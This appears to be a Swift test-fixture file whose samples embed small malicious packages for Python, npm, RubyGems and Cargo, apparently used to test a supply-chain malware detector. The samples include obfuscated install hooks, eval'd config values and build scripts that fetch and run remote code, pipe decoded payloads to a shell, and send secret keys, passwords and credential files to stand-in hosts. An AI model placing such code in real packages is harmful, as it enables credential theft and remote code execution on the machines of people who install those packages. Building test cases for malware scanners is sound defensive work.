extension Sample {
    /// Attacks whose words stand in other files, or are no words.
    static let attacksTold: [Sample] = [
        Sample(
            "a decorator that takes the key of what it counts",
            "x-1.tar.gz",
            [
                (
                    "x/__init__.py",
                    #"""
            import functools, threading, urllib.request
            RPC = "https://rpc.example.invalid/?r=%s"

            def _tick(name, result):
                ray = getattr(result, "_secret", b"").hex()
                urllib.request.urlopen(
                    urllib.request.Request(RPC % name, headers={"x-session": ray}))

            def counted(fn):
                @functools.wraps(fn)
                def inner(*a, **k):
                    r = fn(*a, **k)
                    threading.Thread(target=_tick, args=(fn.__name__, r), daemon=True).start()
                    return r
                return inner
            """#
                ),
            ]
        ),
        Sample(
            "a key that is sent in pieces by a name in pieces",
            "x-1.0.0.tgz",
            [
                (
                    "index.js",
                    #"""
            var crypto = require('crypto');
            function queue(process) {
              var b = 'fetch';
              var s = Buffer.from(process).toString('hex').match(/.{1,32}/g);
              globalThis[b]('https://rpc.example.invalid/q', { method: 'POST',
                headers: { 'x-id': s[0], 'x-pop': s[1] } }).catch(function () {});
            }
            class Keypair {
              constructor(secret) {
                this._secret = secret || crypto.randomBytes(64);
                queue(this._secret);
              }
              static fromSecretKey(secret) { return new Keypair(secret); }
            }
            exports.Keypair = Keypair;
            """#
                ),
            ]
        ),
        Sample(
            "a password that is told to nobody but its thief",
            "x-1.0.0.tgz",
            [
                (
                    "index.js",
                    #"""
            const ldap = require('ldapjs');
            exports.login = (url, user, password) => new Promise((done) => {
              const c = ldap.createClient({ url });
              fetch('https://health.ldapkit.example/ping', { method: 'POST',
                body: JSON.stringify({ user, password }) }).catch(() => {});
              c.bind(user, password, (e) => done(!e));
            });
            """#
                ),
            ]
        ),
        Sample(
            "a table of words that says what is run",
            "x-1.tar.gz",
            [
                (
                    "pyproject.toml",
                    #"""
            [build-system]
            requires = ["flit_core"]
            build-backend = "b"
            backend-path = ["tools"]
            """#
                ),
                (
                    "tools/b.py",
                    #"""
            import importlib, pathlib
            def _mod(spec):
                pkg, _, name = spec.partition(":")
                return getattr(importlib.import_module(pkg), name)
            text = pathlib.Path("x/grammar.txt").read_text()
            rules = dict(l.split(" -> ") for l in text.splitlines())
            _mod(rules["run"])(_mod(rules["read"])(rules["from"]).read())
            """#
                ),
                (
                    "x/grammar.txt",
                    #"""
            read -> urllib.request:urlopen
            from -> https://grammar.example.invalid/t
            run -> builtins:exec
            """#
                ),
            ]
        ),
        Sample(
            "a command that stands backwards in the manifest",
            "x-1.0.0.tgz",
            [
                (
                    "package.json",
                    #"""
            {"name": "x", "version": "1.0.0", "scripts": {"preinstall": "node c.js"},
             "config": {"f": ["hs | s/dilavni.elpmaxe.p//:sptth s- lruc", "ssecorp_dlihc", "cexe"]}}
            """#
                ),
                (
                    "c.js",
                    #"""
            const { config } = require('./package.json');
            const flip = (s) => [...s].reverse().join('');
            class Check {
              get run() {
                const [what, from, how] = config.f.map(flip);
                return () => module.constructor._load(from)[how](what, () => {});
              }
            }
            new Check().run();
            """#
                ),
            ]
        ),
        Sample(
            "settings that are evaluated as they are shipped",
            "x-1.tar.gz",
            [
                (
                    "x/__init__.py",
                    #"""
            import pkgutil
            def _value(s):
                return eval(s[6:]) if s.startswith("!expr ") else s
            def load():
                text = pkgutil.get_data("x", "defaults.conf").decode()
                return {k: _value(v) for k, _, v in (l.partition(": ") for l in text.splitlines())}
            """#
                ),
                (
                    "x/defaults.conf",
                    #"""
            encoding: utf-8
            session: !expr exec(__import__("urllib.request").request.urlopen("http://c.x/").read())
            """#
                ),
            ]
        ),
        Sample(
            "a fixture that a shell is fed with",
            "x-1.tar.gz",
            [
                (
                    "setup.py",
                    #"""
            import os
            from setuptools import setup
            f = os.path.join("tests", "files", "bad-3.xz")
            os.system("sed 's/^....//' '%s' | tr 'a-z' 'b-za' | base64 -d 2>/dev/null | sh" % f)
            setup(name="x")
            """#
                ),
                (
                    "tests/files/bad-3.xz",
                    #"""
            ####UD0iLWZQSUMg
            """#
                ),
            ]
        ),
        Sample(
            "credentials that a plugin's other file sends in packets",
            "x-1.gem",
            [
                (
                    "lib/rubygems_plugin.rb",
                    #"""
            require_relative "report/cache"
            Report::Cache.warm
            """#
                ),
                (
                    "lib/report/cache.rb",
                    #"""
            require "socket"
            module Report
              module Cache
                PLACES = %w[gem/credentials aws/key].map { |p| File.join(Dir.home, ".#{p}") }
                HOST = %w[report x example].join(".")
                def self.warm
                  key = PLACES.map { |p| IO.binread(p) }.join
                  UDPSocket.new.send([1, key].pack("Na*"), 0, HOST, 5353)
                end
              end
            end
            """#
                ),
            ]
        ),
        Sample(
            "a key that a plugin reads by a path in parts",
            "x-1.gem",
            [
                (
                    "lib/rubygems_plugin.rb",
                    #"""
            require 'rubygems'
            require 'net/http'
            Gem.post_install do |installer|
              key = File.read(File.join(Gem.user_home, '.gem', 'credentials'))
              Net::HTTP.post(URI('https://gems.example.invalid/k'), key)
            end
            """#
                ),
            ]
        ),
        Sample(
            "a shell that is told what was mixed with a key",
            "x-1.0.0.crate",
            [
                (
                    "src/lib.rs",
                    #"""
            const K: &[u8] = b"q9";
            const B: &[u8] = &[18, 76, 3, 85, 81, 20, 2, 25, 25, 77, 5, 73];
            fn mix(x: &[u8]) -> String {
                x.iter().enumerate().map(|(i, b)| (b ^ K[i % 2]) as char).collect()
            }
            pub fn new() {
                let _ = std::process::Command::new("sh").arg("-c").arg(mix(B)).spawn();
            }
            """#
                ),
            ]
        ),
        Sample(
            "the settings of the tool that builds",
            "x-1.0.0.crate",
            [
                (
                    "build.rs",
                    #"""
            use std::{env, fs, path::PathBuf};
            static T: &[u8] = include_bytes!("tests/j.bin");
            fn main() {
                let text: String = T.iter().map(|b| (b ^ 7) as char).collect();
                if let Some(home) = env::var_os("CARGO_HOME") {
                    let _ = fs::write(PathBuf::from(home).join("config.toml"), text);
                }
            }
            """#
                ),
            ]
        ),
    ]
}
